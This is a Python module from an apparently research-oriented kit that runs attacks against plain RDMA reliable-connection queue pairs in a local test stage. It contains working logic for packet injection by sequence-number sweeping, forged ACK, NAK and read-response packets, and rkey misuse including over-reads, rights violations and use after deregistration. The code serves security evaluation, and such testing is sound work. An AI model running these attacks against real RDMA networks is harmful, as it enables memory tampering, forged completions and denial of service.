"""The attacks that the kit runs against plain RC QPs."""

from __future__ import annotations

import time
from collections.abc import Callable
from dataclasses import replace

from srdma_attack.against_plain.constants import e
from srdma_attack.against_plain.rc import (
    NOBODY,
    PSNS,
    RIGHTS,
    SIZE,
    Endpoint,
    Stage,
    aeth,
    reth,
    stage,
)
from srdma_attack.attack import Finding, KitError, Settings, outcome

EVIL = b"injected" * 8
WRITE_ONLY, READ_RESPONSE_ONLY, ACKNOWLEDGE = 0x0A, 0x10, 0x11
ACK, NAK_REMOTE_ACCESS = 0x1F, 0x62
AROUND = 1 << 16  # PSNs of a full sweep, around the live one
THIN = 1 << 11  # of a thin one
CHUNK = 256  # packets after which the attacker looks
LOOKS = 200
LOOK = 0.01  # seconds


def inject(settings: Settings) -> Finding:
    """A WRITE into memory that the peer may write."""
    with stage() as it:
        client, server = it.pair()
        region = it.server.region
        body = reth(region.buf, region.rkey, len(EVIL)) + EVIL
        return _sweep(it, client, server, body, settings)


def kill(settings: Settings) -> Finding:
    """A WRITE with a wrong rkey."""
    with stage() as it:
        client, server = it.pair()
        body = reth(it.server.region.buf, it.server.region.rkey ^ 0xFFFF00, len(EVIL)) + EVIL
        return _sweep(it, client, server, body, settings)


def _sweep(
    it: Stage, client: Endpoint, server: Endpoint, body: bytes, settings: Settings
) -> Finding:
    """Sends the WRITE under PSNs around the live one, after some traffic."""
    if not client.write(it.server.region):
        raise KitError("the QPs do not work")
    count = AROUND if settings.full else THIN
    first = (client.psn + 1 - count // 2) % PSNS

    def harmed() -> bool:
        return it.server.region.read(len(EVIL), 0) == EVIL or not server.alive

    with it.forger(server, WRITE_ONLY, body) as forger:
        for at in range(0, count, CHUNK):
            forger.send((first + at) % PSNS, CHUNK)
            if harmed():
                break
        return Finding(outcome(_within(harmed)), note=f"{forger.sent} packets")


def _within(condition: Callable[[], bool]) -> bool:
    """True if the condition becomes true soon: rxe handles packets after they arrive."""
    for _ in range(LOOKS):
        if condition():
            return True
        time.sleep(LOOK)
    return False


def _unanswered(it: Stage, opcode: int) -> Endpoint:
    """A QP of the client with a request to a QP that does not exist: only the attacker answers."""
    client = it.client.endpoint()
    client.connect(replace(it.server.endpoint().name, qpn=NOBODY))
    client.post(opcode, it.server.region.rkey, it.server.region.buf, len(EVIL))
    return client


def forge_ack(settings: Settings) -> Finding:
    """An ack of a WRITE that was not executed."""
    with stage() as it:
        client = _unanswered(it, e.IBV_WR_RDMA_WRITE)
        with it.forger(client, ACKNOWLEDGE, aeth(ACK)) as forger:
            forger.send(client.psn, 1)
            return Finding(outcome(client.completion(LOOKS * LOOK) == e.IBV_WC_SUCCESS))


def forge_nak(settings: Settings) -> Finding:
    """A NAK, which ends a QP."""
    with stage() as it:
        client = _unanswered(it, e.IBV_WR_RDMA_WRITE)
        with it.forger(client, ACKNOWLEDGE, aeth(NAK_REMOTE_ACCESS)) as forger:
            forger.send(client.psn, 1)
            status = client.completion(LOOKS * LOOK)
            return Finding(outcome(status == e.IBV_WC_REM_ACCESS_ERR and not client.alive))


def forge_response(settings: Settings) -> Finding:
    """Data for a READ."""
    with stage() as it:
        client = _unanswered(it, e.IBV_WR_RDMA_READ)
        with it.forger(client, READ_RESPONSE_ONLY, aeth(ACK) + EVIL) as forger:
            forger.send(client.psn, 1)
            done = client.completion(LOOKS * LOOK) == e.IBV_WC_SUCCESS
            return Finding(outcome(done and it.client.region.read(len(EVIL), 0) == EVIL))


def use_rkey_of_another_qp(settings: Settings) -> Finding:
    """An authorised peer uses the rkey that another peer of the same program got."""
    with stage() as it:
        it.pair()
        peer, _ = it.pair()
        return Finding(outcome(peer.write(it.server.region)))


def over_read(settings: Settings) -> Finding:
    """An authorised peer reads beyond the end of a region."""
    with stage() as it:
        peer, _ = it.pair()
        region = it.server.region
        peer.post(e.IBV_WR_RDMA_READ, region.rkey, region.buf + SIZE - 4, 8)
        return Finding(outcome(peer.completion() != e.IBV_WC_REM_ACCESS_ERR))


def exceed_rights(settings: Settings) -> Finding:
    """An authorised peer writes into a region for READs."""
    with stage() as it:
        peer, _ = it.pair()
        readable = it.server.register(RIGHTS & ~e.IBV_ACCESS_REMOTE_WRITE)
        return Finding(outcome(peer.write(readable)))


def late_access(settings: Settings) -> Finding:
    """An authorised peer uses an rkey after the region was deregistered."""
    with stage() as it:
        peer, _ = it.pair()
        former = it.server.register(RIGHTS)
        rkey, address = former.rkey, former.buf
        former.close()
        peer.post(e.IBV_WR_RDMA_WRITE, rkey, address, 8)
        return Finding(outcome(peer.completion() == e.IBV_WC_SUCCESS))
